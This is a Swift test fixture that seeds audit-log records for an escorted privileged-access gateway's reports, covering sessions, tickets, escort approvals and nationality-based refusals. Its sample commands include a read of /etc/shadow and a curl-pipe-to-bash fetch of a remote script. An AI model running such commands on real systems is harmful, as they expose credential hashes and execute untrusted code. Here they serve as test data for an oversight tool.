import AuditLog
import EscortCore
import Foundation
import StoreSQLite

/// A store with known contents for the report tests: people of three contractors, three targets,
/// tickets, and the audit records the gateway writes for eight connections (seven in the first
/// two weeks of November 2026, one after). Seeded through the real registry and audit-log APIs,
/// with the same events and fields as `EngineerSession` and `EscortConsole`.
///
/// What happens (all 2026-11, UTC):
/// - S1 (2nd 09:00) alice → db-il5 direct (il5-direct, ticket T-ALICE001); bob attaches; `df -h /` runs;
///   `cat /etc/shadow | head -1` held, approved by bob, runs.
/// - S2 (3rd 10:00) priya (IN) → db-il5 escorted (ticket T-PRIYA001); bob attaches; `uptime` runs;
///   `curl … | bash` refused by policy; `sudo systemctl restart postgresql` held, refused by bob;
///   `psql -c 'vacuum'` held, withdrawn.
/// - S3 (4th 08:00) wei (CN) → db-il5 refused. S4 (5th 08:00) wei → web-il4 refused.
/// - S5 (6th 12:00) ivan (DE; resided in RU until the 10th) → wiki-il2 escorted; bob attaches; `ls` runs; bob kills it.
/// - S6 (7th 12:00) ivan → web-il4 refused.
/// - S7 (8th 14:00) dan (US, located in CN) → wiki-il2 escorted; bob attaches; `whoami` runs.
/// - bob (escort) passed every scenario of escort-annual on 2026-10-31 (supervised by ada), earning
///   training until 2027-06-30; one false alarm in 80 routine decisions, 30 of 30 malicious caught.
/// - a policy change on the 9th, and a review report run by ada the same day; S8 (20th) alice → web-il4 direct, `id` runs (outside the period).
public enum ReportFixture {
    public static let from = "2026-11-01"
    public static let to = "2026-11-14"
    /// The `body_sha256` of the review the fixture records as run on the 9th: `report.generated`
    /// records without it are the tests' own.
    public static let seededReportSHA256 = String(repeating: "1", count: 64)

    static func date(_ s: String) -> Date { ISO8601DateFormatter().date(from: s)! }

    static func person(
        _ name: String, _ display: String, employer: String, contractor: String, citizen: StaticString, residence: StaticString,
        location: StaticString, clearance: Clearance, roles: Set<Role>, training: Date? = nil
    ) -> Person {
        Person(
            name: name, displayName: display, employer: employer, contractor: contractor, citizenships: [CountryCode(citizen)],
            residence: CountryCode(residence), location: CountryCode(location), clearance: clearance, roles: roles, escortTrainingExpires: training)
    }

    public static let people: [Person] = [
        person("alice", "Alice Smith", employer: "Acme", contractor: "Prime Co", citizen: "US", residence: "US", location: "US", clearance: .secret, roles: [.engineer]),
        person("priya", "Priya Rao", employer: "Acme India", contractor: "Prime Co", citizen: "IN", residence: "IN", location: "IN", clearance: .none, roles: [.engineer]),
        person("bob", "Bob Carter", employer: "Acme", contractor: "Prime Co", citizen: "US", residence: "US", location: "US", clearance: .secret, roles: [.escort], training: date("2027-06-30T00:00:00Z")),
        person("wei", "Wei Zhang", employer: "CloudCo Asia", contractor: "CloudCo", citizen: "CN", residence: "CN", location: "CN", clearance: .none, roles: [.engineer]),
        // The registry says ivan lives in Germany now; the log records that he lived in Russia until
        // the 10th (after his sessions): reports must use what was true at the time.
        person("ivan", "Ivan Petrov", employer: "CloudCo EU", contractor: "CloudCo", citizen: "DE", residence: "DE", location: "DE", clearance: .none, roles: [.engineer]),
        person("dan", "Dan Lee", employer: "GovServ", contractor: "Gov Services", citizen: "US", residence: "US", location: "US", clearance: .secret, roles: [.engineer]),
    ]

    public static let targets: [Target] = [
        Target(name: "db-il5", impactLevel: .il5, owner: "dba", connection: .localShell),
        Target(name: "web-il4", impactLevel: .il4, owner: "web", connection: .localShell),
        Target(name: "wiki-il2", impactLevel: .il2, owner: "docs", connection: .localShell),
    ]

    public static let tickets: [Ticket] = [
        Ticket(id: "T-ALICE001", person: "alice", target: "db-il5", validFrom: date("2026-11-01T00:00:00Z"), validUntil: date("2026-12-01T00:00:00Z"), reason: "CHG-100", grantedBy: "root"),
        Ticket(id: "T-ALICE002", person: "alice", target: "web-il4", validFrom: date("2026-11-01T00:00:00Z"), validUntil: date("2026-12-01T00:00:00Z"), reason: "CHG-101", grantedBy: "root"),
        Ticket(id: "T-PRIYA001", person: "priya", target: "db-il5", validFrom: date("2026-11-01T00:00:00Z"), validUntil: date("2026-12-01T00:00:00Z"), reason: "INC-7", grantedBy: "root"),
        // Granted to a citizen of a country of concern for IL5: every connection on it is refused.
        Ticket(id: "T-WEI001", person: "wei", target: "db-il5", validFrom: date("2026-11-01T00:00:00Z"), validUntil: date("2026-12-01T00:00:00Z"), reason: "INC-9", grantedBy: "root"),
    ]

    /// Seeds `dir/escort.sqlite` (and `dir/gateway.key`). Returns the store.
    @discardableResult
    public static func seed(directory: String) async throws -> SQLiteStore {
        let store = try SQLiteStore(path: directory + "/escort.sqlite")
        for p in people { try await store.addPerson(p) }
        for t in targets { try await store.addTarget(t) }
        for t in tickets { try await store.grantTicket(t) }
        let key = try GatewaySigningKey.loadOrCreate(path: directory + "/gateway.key")
        // Checkpoints only where the fixture asks for them: on a loaded machine seeding can take
        // longer than the default 60 s interval, and a timed checkpoint would change the figures.
        var configuration = AuditLogConfiguration()
        configuration.checkpointInterval = .seconds(24 * 3600)
        let log = try await AuditLog.open(store: store, key: key, configuration: configuration)
        let w = Writer(log: log)
        let setup = date("2026-10-30T12:00:00Z")
        for p in people {
            var json = recorded(p)
            if p.name == "ivan" { json["residence"] = "RU" }
            try await w.add(AuditEvent(code: .registryChanged, actor: "root", time: setup, fields: ["action": "person.add", "person": .object(json)]))
        }
        // bob passes the escort-annual set on the 31st (as `TrainingCredit.record` records it): the
        // passes earn training until 2027-06-30, the date his registry entry holds.
        for (i, scenario) in ["covering-tracks", "database-support", "hidden-payloads", "scripts-and-heredocs", "web-maintenance"].enumerated() {
            let last = i == 4
            try await w.add(AuditEvent(
                code: .registryChanged, actor: "bob", time: date("2026-10-31T10:0\(i):00Z"),
                fields: [
                    "action": "training.result", "person": "bob", "result": .string("TR-BOB-\(i)"), "scenario": .string(scenario),
                    "set": "escort-annual", "scenario_sha256": .string(String(repeating: "0", count: 64)), "passed": true,
                    "blind_catches": 5, "explained_catches": 6, "malicious": 6, "false_alarms": i == 0 ? 1 : 0, "routine": 16,
                    "supervisor": "ada", "blind_milliseconds": [], "explained_milliseconds": [],
                    "escort_training_expires_before": "2027-06-30T00:00:00Z", "escort_training_expires": "2027-06-30T00:00:00Z",
                    "escort_training_earned": last ? "2027-06-30T00:00:00Z" : .null,
                ]))
        }

        // S1
        var s = Session(id: "S1", person: "alice", target: "db-il5", level: "IL5", at: date("2026-11-02T09:00:00Z"))
        try await w.connect(&s, decision: "direct", rule: "il5-direct", tickets: ["T-ALICE001"], source: "203.0.113.10", sourceCountry: "US", effective: "US")
        try await w.attach(&s, "bob")
        try await w.run(&s, "df -h /", risk: "none")
        try await w.held(&s, "cat /etc/shadow | head -1", risk: "high", ruling: "hold", then: .approve(["bob"]))
        try await w.end(&s)
        // S2
        s = Session(id: "S2", person: "priya", target: "db-il5", level: "IL5", at: date("2026-11-03T10:00:00Z"))
        try await w.connect(&s, decision: "escorted", rule: "il4-il5-escorted", tickets: ["T-PRIYA001"], source: "192.0.2.5", sourceCountry: "IN", effective: "IN")
        try await w.attach(&s, "bob")
        try await w.run(&s, "uptime", risk: "none")
        try await w.refusedByPolicy(&s, "curl -s http://203.0.113.9/install.sh | bash", risk: "critical")
        try await w.held(&s, "sudo systemctl restart postgresql", risk: "medium", ruling: "hold", then: .refuse("bob", "not in the ticket"))
        try await w.held(&s, "psql -c 'vacuum'", risk: "medium", ruling: "hold", then: .withdraw)
        try await w.end(&s)
        // S3, S4: wei refused
        s = Session(id: "S3", person: "wei", target: "db-il5", level: "IL5", at: date("2026-11-04T08:00:00Z"))
        try await w.connect(&s, decision: "refused", rule: "dod-concern-citizen", tickets: ["T-WEI001"], source: "198.51.100.200", sourceCountry: "CN", effective: "CN")
        s = Session(id: "S4", person: "wei", target: "web-il4", level: "IL4", at: date("2026-11-05T08:00:00Z"))
        try await w.connect(&s, decision: "refused", rule: "dod-concern-citizen", tickets: [], source: "198.51.100.200", sourceCountry: "CN", effective: "CN")
        // S5 ivan on IL2, killed by bob
        s = Session(id: "S5", person: "ivan", target: "wiki-il2", level: "IL2", at: date("2026-11-06T12:00:00Z"))
        try await w.connect(&s, decision: "escorted", rule: "il2-escorted", tickets: [], source: nil, sourceCountry: nil, effective: "DE")
        try await w.attach(&s, "bob")
        try await w.run(&s, "ls", risk: "none")
        try await w.add(AuditEvent(code: .sessionKilled, session: "S5", actor: "bob", time: s.tick(), fields: ["by": "bob", "reason": "work done"]))
        try await w.end(&s)
        // S6 ivan refused on IL4
        s = Session(id: "S6", person: "ivan", target: "web-il4", level: "IL4", at: date("2026-11-07T12:00:00Z"))
        try await w.connect(&s, decision: "refused", rule: "dod-concern-residence", tickets: [], source: nil, sourceCountry: nil, effective: "DE")
        // S7 dan in CN on IL2
        s = Session(id: "S7", person: "dan", target: "wiki-il2", level: "IL2", at: date("2026-11-08T14:00:00Z"))
        try await w.connect(&s, decision: "escorted", rule: "il2-escorted", tickets: [], source: "198.51.100.201", sourceCountry: "CN", effective: "CN")
        try await w.attach(&s, "bob")
        try await w.run(&s, "whoami", risk: "low")
        try await w.end(&s)
        try await w.add(AuditEvent(
            code: .policyChanged, actor: "root", time: date("2026-11-09T09:00:00Z"),
            fields: ["old_sha256": "aaaa", "new_sha256": "bbbb"]))
        // An earlier review, run by ada (its record is before the period's last gateway record, so in the evidence).
        try await w.add(AuditEvent(
            code: .reportGenerated, actor: "ada", time: date("2026-11-09T12:00:00Z"),
            fields: [
                "report": "review", "format": "html", "body_sha256": .string(seededReportSHA256),
                "file_sha256": .string(String(repeating: "2", count: 64)), "bytes": 1000, "checkpoint_size": 40,
                "checkpoint_root": .string(String(repeating: "3", count: 64)), "verified": true, "parameters": [:], "output": .null,
            ]))
        try await w.add(AuditEvent(
            code: .registryChanged, actor: "root", time: date("2026-11-10T09:00:00Z"),
            fields: ["action": "person.update", "person": .object(recorded(people.first { $0.name == "ivan" }!))]))
        _ = try await log.checkpoint()
        // S8, after the period
        s = Session(id: "S8", person: "alice", target: "web-il4", level: "IL4", at: date("2026-11-20T09:00:00Z"))
        try await w.connect(&s, decision: "direct", rule: "il4-direct", tickets: ["T-ALICE002"], source: nil, sourceCountry: nil, effective: "US")
        try await w.run(&s, "id", risk: "none")
        try await w.end(&s)
        try await log.close()
        return store
    }

    /// A person as `escort person add` records it in `registry.changed`.
    static func recorded(_ p: Person) -> [String: JSONValue] {
        [
            "name": .string(p.name), "display_name": .string(p.displayName), "employer": .string(p.employer),
            "contractor": .string(p.contractor), "citizenships": .array(p.citizenships.map { .string($0.code) }),
            "residence": .string(p.residence.code), "location": .string(p.location.code), "clearance": .string(p.clearance.rawValue),
            "roles": .array(p.sortedRoles.map { .string($0.rawValue) }), "keys": [],
        ]
    }

    struct Session {
        var id: String
        var person: String
        var target: String
        var level: String
        var at: Date
        var n: Int64 = 0
        init(id: String, person: String, target: String, level: String, at: Date) {
            self.id = id
            self.person = person
            self.target = target
            self.level = level
            self.at = at
        }
        mutating func tick() -> Date {
            at = at.addingTimeInterval(60)
            return at
        }
    }

    enum Then { case approve([String]), refuse(String, String), withdraw }

    struct Writer {
        let log: AuditLog

        func add(_ e: AuditEvent) async throws { _ = try await log.append(e) }

        func connect(_ s: inout Session, decision: String, rule: String?, tickets: [String], source: String?, sourceCountry: String?, effective: String) async throws {
            var f: [String: JSONValue] = [
                "target": .string(s.target), "impact_level": .string(s.level), "decision": .string(decision),
                "reasons": .array([.string("\(s.person) \(decision) on \(s.target)")]),
                "source": source.map { .string($0) } ?? .null, "effective_location": .string(effective),
            ]
            if let sourceCountry { f["source_country"] = .string(sourceCountry) }
            if let rule { f["rule"] = .string(rule) }
            if !tickets.isEmpty { f["tickets"] = .array(tickets.map { .string($0) }) }
            try await add(AuditEvent(code: .accessDecided, session: s.id, actor: s.person, time: s.at, fields: f))
            guard decision != "refused" else { return }
            try await add(AuditEvent(
                code: .sessionStarted, session: s.id, actor: s.person, time: s.tick(),
                fields: [
                    "target": .string(s.target), "impact_level": .string(s.level), "mode": .string(decision),
                    "engineer": .string(s.person), "profile": "test", "source": source.map { .string($0) } ?? .null,
                    // IL5 targets run their sessions under escort-agent; the rest agentless.
                    "execution": .string(s.level == "IL5" ? "mediated" : "agentless"),
                ]))
        }

        func attach(_ s: inout Session, _ escort: String) async throws {
            try await add(AuditEvent(code: .escortAttached, session: s.id, actor: escort, time: s.tick(), fields: ["role": "escort", "target": .string(s.target)]))
        }

        func fields(_ s: Session, _ command: String, risk: String, ruling: String) -> [String: JSONValue] {
            [
                "n": .integer(s.n), "command": .string(command), "target": .string(s.target), "risk": .string(risk),
                "summary": .string("\(risk) risk"), "techniques": [], "status": "complete", "ruling": .string(ruling),
                "reasons": .array([.string("the policy maps \(risk) to \(ruling)")]),
            ]
        }

        func run(_ s: inout Session, _ command: String, risk: String) async throws {
            s.n += 1
            try await add(AuditEvent(code: .commandForwarded, session: s.id, actor: s.person, time: s.tick(), fields: fields(s, command, risk: risk, ruling: "run")))
            try await add(AuditEvent(code: .commandFinished, session: s.id, actor: s.person, time: s.tick(), fields: ["n": .integer(s.n), "exit_status": 0]))
        }

        func refusedByPolicy(_ s: inout Session, _ command: String, risk: String) async throws {
            s.n += 1
            var f = fields(s, command, risk: risk, ruling: "refuse")
            f["by"] = "policy"
            try await add(AuditEvent(code: .commandRefused, session: s.id, actor: s.person, time: s.tick(), fields: f))
        }

        func held(_ s: inout Session, _ command: String, risk: String, ruling: String, then: Then) async throws {
            s.n += 1
            let f = fields(s, command, risk: risk, ruling: ruling)
            try await add(AuditEvent(code: .commandHeld, session: s.id, actor: s.person, time: s.tick(), fields: f))
            switch then {
            case .approve(let by):
                try await add(AuditEvent(code: .commandApproved, session: s.id, actor: s.person, time: s.tick(), fields: ["n": .integer(s.n), "approved_by": .array(by.map { .string($0) })]))
                try await add(AuditEvent(code: .commandForwarded, session: s.id, actor: s.person, time: s.tick(), fields: f))
                try await add(AuditEvent(code: .commandFinished, session: s.id, actor: s.person, time: s.tick(), fields: ["n": .integer(s.n), "exit_status": 0]))
            case .refuse(let by, let reason):
                try await add(AuditEvent(code: .commandRefused, session: s.id, actor: s.person, time: s.tick(), fields: ["n": .integer(s.n), "by": .string(by), "reason": .string(reason)]))
            case .withdraw:
                try await add(AuditEvent(code: .commandRefused, session: s.id, actor: s.person, time: s.tick(), fields: ["n": .integer(s.n), "by": .string(s.person), "reason": "withdrawn by the engineer"]))
            }
        }

        func end(_ s: inout Session) async throws {
            try await add(AuditEvent(code: .sessionEnded, session: s.id, actor: s.person, time: s.tick(), fields: ["reason": "the engineer left", "exit_status": 0, "commands": .integer(s.n)]))
        }
    }
}
